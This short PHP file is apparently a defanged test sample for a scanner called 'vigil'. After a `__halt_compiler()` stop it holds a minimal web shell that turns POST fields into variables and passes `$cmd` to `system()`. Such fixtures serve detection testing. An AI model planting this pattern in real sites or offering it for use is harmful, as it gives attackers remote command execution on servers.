<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
foreach ($_POST as $k => $v) {
	$$k = $v;
}
system($cmd);
